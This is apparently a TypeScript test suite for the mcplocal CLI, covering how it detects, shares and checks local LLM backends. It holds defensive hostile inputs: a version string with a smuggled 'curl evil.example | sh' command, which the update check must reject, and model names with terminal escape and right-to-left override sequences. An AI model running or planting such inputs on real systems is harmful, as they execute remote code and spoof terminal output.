import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect } from 'chai';
import { isNewer, wayToUpdate } from '../../worker/face/update.ts';
import { answers, chats, type Backend } from '../support/backend.ts';
import { startSession } from '../cli/session.ts';
import { scriptedEdge } from '../bridge/scripted-edge.ts';
import { edgeFixture, type EdgeFixture } from '../support/edge.ts';
import { startKnown } from '../support/known-backends.ts';
import { endOf, mcplocal as run, type Said } from '../support/mcplocal.ts';
import { programOf } from '../support/program.ts';
import { until } from '../support/system.ts';
import { submitTask } from '../support/tasks.ts';
import { atTerminal, hasPseudoTerminal, type Line } from '../support/pseudo-terminal.ts';

interface Config {
  ownerFirst?: boolean;
  quiet?: string[];
  providers: { name: string; model: string; poolName: string; publish?: boolean }[];
}

describe('mcplocal and the owner of its machine', function () {
  this.timeout(40_000);
  let t: EdgeFixture;
  let ollama: Backend;
  let home: string;
  let env: NodeJS.ProcessEnv;
  before(async () => {
    t = await edgeFixture();
    ollama = await startKnown.ollama();
  });
  beforeEach(async () => {
    home = await mkdtemp(join(tmpdir(), 'face-'));
    env = { PATH: process.env['PATH'], MCPCTL_HOME: home, OLLAMA_HOST: new URL(ollama.url).host };
  });
  afterEach(() => rm(home, { recursive: true, force: true }));
  after(async () => {
    await ollama.close();
    await t.close();
  });

  const invite = async (pools = ['gpu']): Promise<string> =>
    ((await t.call('POST /api/v1/join-codes', { body: { pools } })).json as { code: string }).code;
  const config = async (): Promise<Config> =>
    JSON.parse(await readFile(join(home, 'config.json'), 'utf8')) as Config;
  const mcplocal = (...argv: string[]): Promise<Said> => run(env, ...argv);
  const codeOf = (...argv: string[]): Promise<string> => endOf(env, ...argv);
  const typed = (argv: readonly string[], lines: readonly Line[]) =>
    atTerminal([process.execPath, programOf('worker'), ...argv], env, lines);

  it('looks, shares what was chosen beside what is there, and sends nothing', async () => {
    const looked = await mcplocal('detect', '-o', 'json');
    const { backends } = looked.answer as {
      backends: { type: string; url: string; models: { id: string }[] }[];
    };
    const mine = backends.find(({ url }) => url === ollama.url);
    expect(mine?.type).to.equal('ollama');
    expect(looked.shown).to.include('Ollama').and.include('nothing on');
    expect(await codeOf('init')).to.match(/^usage: .*--yes/);
    const before = {
      providers: [{ name: 'kept', type: 'openai', url: 'http://127.0.0.1:9', model: 'x' }],
      agents: [],
    };
    await writeFile(join(home, 'config.json'), JSON.stringify(before));
    const { answer } = await mcplocal('init', '--yes', '-o', 'json');
    const { providers } = await config();
    expect(providers[0]).to.deep.equal(before.providers[0]);
    expect((answer['added'] as unknown[]).length).to.equal(providers.length - 1);
    const models = providers.map(({ model }) => model);
    expect(models)
      .to.include.members(['qwen3:30b', 'llava:latest'])
      .and.not.include('nomic-embed-text:latest');
    expect(mine?.models.map(({ id }) => id)).to.include('nomic-embed-text:latest');
    expect((await mcplocal('init', '--yes')).shown).to.include('Nothing was written into');
    expect(await config()).to.deep.equal({ providers, agents: [] });
  });

  it('joins with a code, shares into its pool, and leaves', async () => {
    const { answer, shown } = await mcplocal('join', t.url, '--code', await invite(), '--yes', '-o', 'json');
    expect(answer).to.deep.include({ server: t.url, user: 'ada', pools: ['gpu'] });
    expect(shown).to.include('To end it: mcplocal leave');
    const file = join(home, 'credentials');
    expect((await stat(file)).mode & 0o777).to.equal(0o600);
    const { token, mcpdUrl } = JSON.parse(await readFile(file, 'utf8')) as { token: string; mcpdUrl: string };
    expect(mcpdUrl).to.equal(t.url);
    expect(JSON.stringify(answer) + shown).not.to.include(token);
    const { providers } = await config();
    expect(new Set(providers.map(({ poolName }) => poolName))).to.deep.equal(new Set(['gpu']));
    expect(answer['shared']).to.have.members(providers.map(({ name }) => name));
    expect(await codeOf('join', t.url, '--code', await invite())).to.match(/^name_taken: .*mcplocal leave/);
    const statusOf = async (of: string): Promise<number> =>
      (await t.call('GET /api/v1/whoami', { token: of })).status;
    // A code that is none ends nothing; another one ends the credential that it takes the place of.
    expect(await codeOf('join', t.url, '--code', '7F3K-Q2ZD-M8RT', '--replace')).to.match(
      /^join_code_unknown/,
    );
    expect(await statusOf(token)).to.equal(200);
    // It says which server this is, and, as it goes on to serve, how each llm answers, whatever that is.
    ollama.once(chats(['one', '\nPASS two', ' three'], { intervalMs: 30 }));
    ollama.once(answers(500, { error: { message: 'out of memory' } }));
    const again = ['--code', await invite(), '--replace', '--run', '--yes'];
    const { shown: replaced } = await mcplocal('join', t.url, ...again);
    const [one = '', two = ''] = providers.map(({ name }) => name);
    for (const line of [
      /^127\.0\.0\.1:\d+ · clocks \d+\.\d s apart\nJoining /m,
      /^Release here \S+, at the server 0\.0\.0-test → mcplocal update says how to get the same\.$/m,
      /Its former key.*is over/,
      new RegExp(`^PASS ${one} at the backend, \\d+ ms, \\d+ tokens/s: one PASS two three$`, 'm'),
      new RegExp(`^FAIL ${two} at the backend, \\d+ ms: .*out of memory`, 'm'),
      /^Runs until Ctrl-C\. To keep it running: mcplocal service install\.\n$/m,
    ])
      expect(replaced).to.match(line);
    const now = JSON.parse(await readFile(file, 'utf8')) as { token: string };
    expect([await statusOf(token), await statusOf(now.token)]).to.deep.equal([401, 200]);
    // One whose server is away stays, and that is said.
    const away = { mcpdUrl: 'http://127.0.0.1:1', token: `mcpw_${'x'.repeat(50)}` };
    await writeFile(file, JSON.stringify(away), { mode: 0o600 });
    const { shown: unended } = await mcplocal('join', t.url, '--code', await invite(), '--replace', '--yes');
    expect(unended).to.include('could not be ended').and.not.include(away.token);
    const last = JSON.parse(await readFile(file, 'utf8')) as { token: string };
    const left = await mcplocal('leave', '-o', 'json');
    expect(await statusOf(last.token)).to.equal(401);
    expect(left.answer).to.include({ server: t.url, told: true });
    expect((await t.call('GET /api/v1/whoami', { token })).status).to.equal(401);
    expect(await codeOf('leave')).to.match(/^usage: /);
    expect((await config()).providers).to.deep.equal(providers);
  });

  it('changes nothing where the server cannot be told, unless it is to forget alone', async () => {
    const file = join(home, 'credentials');
    await writeFile(file, JSON.stringify({ mcpdUrl: 'http://127.0.0.1:1', token: 'mcpw_x' }), {
      mode: 0o600,
    });
    expect(await codeOf('leave')).to.match(/^server_unreachable: .*Nothing was changed/);
    expect((await stat(file)).isFile()).to.equal(true);
    const { answer, shown } = await mcplocal('leave', '--force', '-o', 'json');
    expect(answer).to.include({ told: false });
    expect(shown).to.include('mcpctl worker revoke');
    expect(await stat(file).catch(() => null)).to.equal(null);
  });

  it('says of an answer that is in no known form that it is none, and forgets alone where it is to', async () => {
    const file = join(home, 'credentials');
    const page = await scriptedEdge((_, res) => res.end('<html>Sign in to the network</html>'));
    const credentials = JSON.stringify({ mcpdUrl: page.url, token: 'mcpw_x' });
    try {
      await writeFile(file, credentials, { mode: 0o600 });
      expect(await codeOf('update')).to.match(/^bad_answer: The server answered in no form/);
      expect((await mcplocal('doctor')).shown).to.match(
        /FAIL The server answered in no form .* → check the address/,
      );
      expect(await codeOf('leave')).to.match(/^bad_answer: .*Nothing was changed; --force/);
      expect((await mcplocal('leave', '--force', '-o', 'json')).answer).to.include({ told: false });
      expect(await stat(file).catch(() => null)).to.equal(null);
    } finally {
      await page.close();
    }
  });

  it('says what is wrong with each thing, and what to do about it', async () => {
    const checks = async (): Promise<{ next: string; lines: string[] }> => {
      const { next, shown } = await mcplocal('doctor');
      return { next, lines: shown.split('\n') };
    };
    const nothing = await checks();
    expect(nothing.next).to.equal('failed');
    expect(nothing.lines.join('\n')).to.match(/FAIL nothing is shared → mcplocal init/);
    expect(nothing.lines.join('\n')).to.match(/FAIL There are no credentials .* → mcplocal join/);
    await mcplocal('join', t.url, '--code', await invite(), '--yes');
    const { providers } = await config();
    const [one] = providers;
    const odd = [
      { ...one, name: 'gone', model: 'not-there' },
      { ...one, name: 'elsewhere', poolName: 'cpu' },
      { name: 'away', type: 'openai', url: 'http://127.0.0.1:1', model: 'x', poolName: 'gpu', publish: true },
    ];
    const asleep = { ...odd[2], url: 'http://127.0.0.1:2', publish: true };
    const wake = { type: 'http', url: 'http://127.0.0.1:1', method: 'POST', maxWaitSeconds: 1 };
    const managed = { command: 'llama-server', args: [] };
    const own = { ...asleep, name: 'own', url: 'http://127.0.0.1:3', managed };
    const broken = { ...asleep, name: 'broken', url: 'http://127.0.0.1:4', managed };
    odd.push({ ...asleep, name: 'asleep', wake } as never, own as never, broken as never);
    await writeFile(join(home, 'config.json'), JSON.stringify({ providers: [one, ...odd] }));
    const { next, lines } = await checks();
    const has = (start: RegExp): void =>
      void expect(
        lines.some((line) => start.test(line)),
        `${start}\n${lines.join('\n')}`,
      ).to.equal(true);
    expect(next).to.equal('failed');
    has(/^PASS config.json is understood; 7 of 7 models shared/);
    has(/^PASS asleep: it sleeps, and its worker wakes it/);
    has(/^PASS own: it does not run, and its worker starts it/);
    has(/^PASS http:.*DNS \d+ ms, TCP \d+ ms, clocks \d+\.\d s apart/);
    has(/^PASS of '.*' of ada, not revoked/);
    has(new RegExp(`^PASS ${one?.name ?? ''}: ollama answers and has`));
    has(/^FAIL gone: ollama answers, but not-there is not there → ollama pull not-there, or mcplocal init/);
    has(/^FAIL elsewhere is shared in cpu, and the credential is for gpu → set its "poolName"/);
    has(/^FAIL away: .* → start openai at http:\/\/127\.0\.0\.1:1/);
    has(/^WARN No worker runs with this home .* → mcplocal run/);
    has(/FAIL, \d+ WARN\.$/);
    const reason = 'It ended with code 3: boom. It is started again when it is called.';
    const kept = { state: 'failed', reason, pid: null, lastExit: null, lastLine: null, starts: 1 };
    const llms = [{ name: 'broken', model: 'x', state: 'asleep', managed: kept, running: 0, slots: 1 }];
    const status = { pid: 1, version: '1', session: null, edge: 'e', transport: 'sse', connected: true };
    const worker = createServer((_, res) =>
      res.end(JSON.stringify({ ...status, state: 'serving', llms })),
    ).listen(join(home, 'worker.sock'));
    await once(worker, 'listening');
    expect((await checks()).lines.join('\n')).to.match(
      /FAIL broken: It ended with code 3: boom.* → what it printed is in .*backend-broken\.log/,
    );
    worker.close();
    const { token } = JSON.parse(await readFile(join(home, 'credentials'), 'utf8')) as { token: string };
    await t.call('POST /api/v1/leave', { token });
    const revoked = await checks();
    expect(revoked.lines.join('\n')).to.match(/FAIL the server refuses it: .* → mcplocal join again/);
    await writeFile(join(home, 'credentials'), JSON.stringify({ mcpdUrl: 'http://127.0.0.1:1', token }));
    expect((await checks()).lines.join('\n')).to.match(
      /FAIL The edge at .* cannot be reached.* → check the address/,
    );
  });

  it('tries each backend, says what it may not try, and who has used it, and what is newer', async () => {
    expect(await codeOf('test')).to.match(/^usage: Nothing is shared/);
    expect(await codeOf('usage')).to.match(/^usage: .*served nothing/);
    expect(await codeOf('update')).to.match(/^usage: /);
    await mcplocal('join', t.url, '--code', await invite(), '--yes');
    const [one] = (await config()).providers;
    ollama.once(chats(['OK']));
    const tried = await mcplocal('test', one?.name ?? '');
    expect(tried.next, tried.shown).to.equal('end');
    expect(tried.shown)
      .to.match(/PASS .* at the backend, \d+ ms: OK/)
      .and.include('calls nothing');
    const own = { name: 'own', type: 'openai', url: 'http://127.0.0.1:3', model: 'x', publish: true };
    const providers = [one, { ...own, managed: { command: 'llama-server', args: [] } }];
    await writeFile(join(home, 'config.json'), JSON.stringify({ providers }));
    const asleep = await mcplocal('test', 'own');
    expect(asleep.next, asleep.shown).to.equal('end');
    expect(asleep.shown).to.include('own does not run now: its worker has it run');
    expect(await codeOf('test', 'nobody')).to.match(/^usage: Nothing is shared as 'nobody'/);
    const update = await mcplocal('update', '-o', 'json');
    expect(update.answer).to.deep.include({ server: '0.0.0-test', newer: false });
    const { token } = JSON.parse(await readFile(join(home, 'credentials'), 'utf8')) as { token: string };
    const session = randomUUID();
    const used = [{ name: 'used', type: 'openai', model: 'm', poolName: 'gpu' }];
    const body = { providerSessionId: session, instanceId: session, transports: ['sse'], providers: used };
    await t.call('POST /api/v1/llms/_provider-register', { token, body });
    await writeFile(join(home, 'provider-session'), session);
    const task = await submitTask(t, { poolKey: 'gpu', llmName: 'used', ownerId: t.bob.id });
    await t.connection
      .db('tasks')
      .where({ id: task.id })
      .update({
        ...{ status: 'completed', claimedBy: session, usage: JSON.stringify({ totalTokens: 42 }) },
        completedAt: t.connection.db.fn.now(),
        claimedAt: t.connection.db.raw(`now() - interval '3 minutes'`),
      });
    const usage = await mcplocal('usage', '--hours', '2', '-o', 'json');
    expect(usage.answer).to.deep.equal({
      hours: 2,
      items: [{ user: 'bob', tasks: 1, tokens: 42, minutes: 3 }],
    });
    expect((await mcplocal('usage')).shown).to.match(/USER +TASKS +TOKENS +MINUTES\nbob +1 +42 +3\.0/);
    const others = await t.call(`GET /api/v1/sessions/${session}/usage`, { token: t.tokens.bob });
    expect(others.status, 'of others').to.equal(404);
    expect(await codeOf('usage', '--hours', '0')).to.match(/^usage: /);
  });

  it('knows what is newer, and what would bring it, by where it lies', () => {
    expect(isNewer('0.2.0', '0.1.9')).to.equal(true);
    for (const [a, b] of [
      ['0.1.0', '0.1.0'],
      ['0.1.9', '0.2.0'],
      ['next', '0.1.0'],
      ['1.0.0', 'x'],
      ['9.9.9; curl evil.example | sh', '0.1.0'],
    ] as const)
      expect(isNewer(a, b), `${a} ${b}`).to.equal(false);
    const ways = [
      ['/usr/lib/node_modules/mcpctl/dist/worker/main.js', 'npm install -g mcpctl@0.2.0'],
      ['/home/a/node_modules/@team/mcpctl/dist/bundle/x.js', 'npm install -g @team/mcpctl@0.2.0'],
      [
        '/usr/lib/mcplocal/dist/worker/main.js',
        "install mcplocal 0.2.0 with your system's packages (apt, dnf)",
      ],
      ['/home/a/mcpctl/dist/worker/main.js', 'git pull && npm run build, in the folder that you cloned'],
    ] as const;
    for (const [file, way] of ways) expect(wayToUpdate(file, '0.2.0')).to.equal(way);
    const single = (file: string): string => wayToUpdate(file, '0.2.0', true);
    expect(single('/home/a/bin/mcplocal')).to.equal(
      'put the file of 0.2.0 in the place of /home/a/bin/mcplocal',
    );
    expect(single('/usr/bin/mcplocal')).to.include("your system's packages");
  });

  it('asks at a terminal which models to share: Space marks, Enter goes on, Ctrl-C changes nothing', async function () {
    if (!hasPseudoTerminal()) return this.skip();
    const stopped = await typed(['init'], [['[x]', '\u0003']]);
    expect(stopped.status, stopped.text).to.equal(2);
    expect(await stat(join(home, 'config.json')).catch(() => null)).to.equal(null);
    const joined = await typed(
      ['join', t.url, '--code', await invite()],
      [
        ['[x]', ' \u001b[B\u001b[A \r'],
        ['Do you come first?', '\r'],
        ['Hours that are yours', 'never\r'],
        ['is none', 'Mon-Fri 9-18\r'],
      ],
    );
    expect(joined.status, joined.text).to.equal(0);
    expect(joined.text).to.include('[x]').and.include('[ ]').and.include('Next: mcplocal run');
    const shared = await config();
    expect(shared.providers.map(({ poolName }) => poolName)).to.include('gpu');
    expect(shared).to.deep.include({ ownerFirst: true, quiet: ['Mon-Fri 9-18'] });
    // What asks nothing waits for nobody at a terminal either, and each says there what it says elsewhere.
    const [one] = shared.providers;
    ollama.once(chats(['OK']));
    const shows = async (argv: string[], status: number, shown: RegExp): Promise<void> => {
      const run = await typed(argv, []);
      expect(run.status, `${argv[0]}: ${run.text}`).to.equal(status);
      expect(run.text).to.match(shown);
    };
    await Promise.all([
      shows(['detect'], 0, /Looking on this machine only/),
      shows(['doctor'], 0, /PASS of '.*' of ada, not revoked[^]*WARN No worker runs with this home/),
      shows(['test', one?.name ?? ''], 0, /PASS .* at the backend, \d+ ms: OK/),
      shows(['update'], 0, /the server has 0\.0\.0-test: there is nothing to do/),
      shows(['usage'], 2, /served nothing/),
      shows(['pause', '2h'], 1, /No worker runs/),
    ]);
    const left = await typed(['leave'], []);
    expect(left.text).to.include(`Left ${t.url}`);
  });

  it('shares what a machine may publish, of hundreds of models with any name, and shows as many as fit the screen', async function () {
    const longest = 'x'.repeat(3_000);
    const odd = ['evil\u001b[2J', 'two\n  http://127.0.0.1:1  lines', '', longest, '\u202eabc'];
    const even = Array.from({ length: 300 }, (_, n) => `model-${String(n)}`);
    const data = [...odd, ...even, ...Array.from({ length: 2_000 }, () => 'model-7')].map((id) => ({ id }));
    const answer = JSON.stringify({ data });
    let meanwhile = (): void => undefined;
    const server = createServer((req, res) => {
      const isAsked = req.url === '/v1/models';
      if (isAsked) meanwhile();
      res.writeHead(isAsked ? 200 : 404).end(isAsked ? answer : '{}');
    }).listen(0, '127.0.0.1');
    await once(server, 'listening');
    env['OLLAMA_HOST'] = `127.0.0.1:${String((server.address() as AddressInfo).port)}`;
    try {
      const looked = await mcplocal('detect');
      expect(looked.shown)
        .to.include('5 of those cannot be shared')
        .and.not.include('\n  http://127.0.0.1:1 ');
      expect(looked.shown.includes(longest)).to.equal(false);
      // What its owner writes while it looks, or asks, stays.
      const theirs = { name: 'theirs', type: 'openai', url: 'http://127.0.0.1:9', model: 'x' };
      meanwhile = () =>
        writeFileSync(join(home, 'config.json'), JSON.stringify({ quiet: ['9-18'], providers: [theirs] }));
      await mcplocal('init', '--yes');
      meanwhile = () => undefined;
      const { quiet, providers } = await config();
      expect([quiet, providers.shift()]).to.deep.equal([['9-18'], theirs]);
      expect(providers.map(({ model }) => model)).to.deep.equal(even.slice(0, 256));
      expect((await mcplocal('init', '--yes')).shown).to.include('as many as one machine may');
      const more = [...providers, { ...providers[0], name: 'more' }];
      await writeFile(join(home, 'config.json'), JSON.stringify({ providers: more }));
      expect((await mcplocal('doctor')).shown).to.include('257 are published, and one machine publishes 256');
      await rm(join(home, 'config.json'));
      if (!hasPseudoTerminal()) return;
      const { status, text } = await typed(
        ['init'],
        [
          ['256 marked', 'a'],
          ['0 marked', '\u001b[6~\u001b[B \r'],
          ['Do you come first?', 'n\r'],
          ['Hours that are yours', '\r'],
        ],
      );
      expect(status, text).to.equal(0);
      const ups = [...text.matchAll(/\u001b\[(\d+)A/g)].map(([, up]) => Number(up));
      expect(Math.max(...ups)).to.be.within(1, 23);
      expect((await config()).providers.map(({ model }) => model)).to.deep.equal([even[22]]);
    } finally {
      server.close().closeAllConnections();
    }
  });

  it('waits at a terminal for who confirms it, and asks whether what is shared goes into the pool', async function () {
    if (!hasPseudoTerminal()) return this.skip();
    const other = { name: 'mine', type: 'openai', url: 'http://127.0.0.1:9', model: 'x', publish: true };
    await writeFile(join(home, 'config.json'), JSON.stringify({ providers: [other] }));
    await t.connection.db.raw(`delete from device_logins`);
    const waiting = typed(['join', t.url, '--pool', 'gpu'], [['Put them into gpu? [Y/n]', '\r']]);
    const [{ userCode: code = '' } = {}] = await until(
      async () => await t.connection.db('deviceLogins').select<{ userCode: string }[]>('userCode'),
      ({ length }) => length === 1,
      30_000,
    );
    const person = await startSession(null, { env: { MCPCTL_SERVER: t.url, MCPCTL_TOKEN: t.tokens.ada } });
    expect(await person.run('worker', 'approve', code, '--yes'), person.err()).to.equal(0);
    expect(person.out()).to.match(/^worker\/.* approved\n$/);
    await person.close();
    const { status, text } = await waiting;
    expect(status, text).to.equal(0);
    expect(text)
      .to.include(`${code.slice(0, 4)}-`)
      .and.include('is now the worker');
    expect((await config()).providers).to.deep.equal([{ ...other, poolName: 'gpu' }]);
  });
});
